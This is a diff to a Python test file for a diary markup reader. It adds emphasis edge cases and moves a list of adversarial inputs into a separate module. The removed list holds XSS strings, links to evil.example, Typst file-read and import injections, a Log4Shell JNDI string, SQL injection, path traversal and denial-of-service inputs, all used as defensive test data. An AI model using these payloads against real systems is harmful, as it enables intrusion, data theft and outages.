@@ -17,6 +17,7 @@ from campaign.diary.words import (
     plain,
     read,
 )
+from diary.hostile import HOSTILE
 
 
 @pytest.mark.parametrize(
@@ -28,6 +29,9 @@ from campaign.diary.words import (
         ("one  \ntwo", (P((Text("one"), Break(), Text("two"))),)),
         ("*Nobody* **moved**", (P((Em((Text("Nobody"),)), Text(" "), Strong((Text("moved"),)))),)),
         ('He said "no"...', (P((Text("He said “no”…"),)),)),
+        ("__a__b__c__d__", (P((Strong((Text("a__b__c__d"),)),)),)),
+        ("*a *b* c*", (P((Em((Text("a "), Text("b"), Text(" c"))),)),)),
+        ("_" * 9 + "a" + "_" * 9, (P((Em((Strong((Text("a"),)),)),)),)),
         ("> Attack!", (Quote((P((Text("Attack!"),)),)),)),
         ("- a\n- b", (Items(((P((Text("a"),)),), (P((Text("b"),)),))),)),
         ("3. a\n4. b", (Items(((P((Text("a"),)),), (P((Text("b"),)),)), 3),)),
@@ -36,50 +40,6 @@ from campaign.diary.words import (
 def test_words_are_read_as_nodes(typed: str, nodes: tuple[object, ...]) -> None:
     """Paragraphs, quotations, lists, two degrees of stress, ends of lines, quotation marks."""
     assert read(typed) == nodes
-
-
-HOSTILE = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "</article></main><form action=/c/club/do>",
-    "&lt;b&gt; &amp; &#60;script&#62; &quot;",
-    "[here](javascript:alert(1))",
-    "[here](https://evil.example)",
-    "![x](https://evil.example/x.png)",
-    "<https://evil.example>",
-    "https://evil.example/?a=1&b=2",
-    "# No heading",
-    "#import \"@preview/evil:1.0.0\": *",
-    "#read(\"/etc/passwd\")",
-    "#let x = sys.inputs; #x",
-    "$ 1/0 $ and #{ while true {} }",
-    "#set page(width: 1pt)",
-    "#eval(\"1\", mode: \"code\")",
-    "<label> @ref ~ -- --- \\ / // comment",
-    "`code` and ```\nfence\n```",
-    "    indented code",
-    "---\ntitle: yaml\n---",
-    "***\n___",
-    "| a | b |\n|---|---|",
-    "{{ here.campaign }} {% raw %}",
-    "${jndi:ldap://evil}",
-    "%s %n {0} {}",
-    "'; DROP TABLE dispatch; --",
-    "../../etc/passwd",
-    "\\*not stressed\\*",
-    "*" * 200,
-    "_" * 200 + "a" + "_" * 200,
-    "[" * 500,
-    "(" * 500 + ")" * 500,
-    "a" * 4000,
-    "😀🏴‍☠️ 漢字 עברית العربية",
-    "- \n- \n-",
-    ">\n>\n> x",
-    "1) a\n2) b",
-    "999999999. far",
-    "\"" * 300,
-    "x\n" * 1999,
-)  # fmt: skip
 
 
 @pytest.mark.parametrize("typed", HOSTILE)
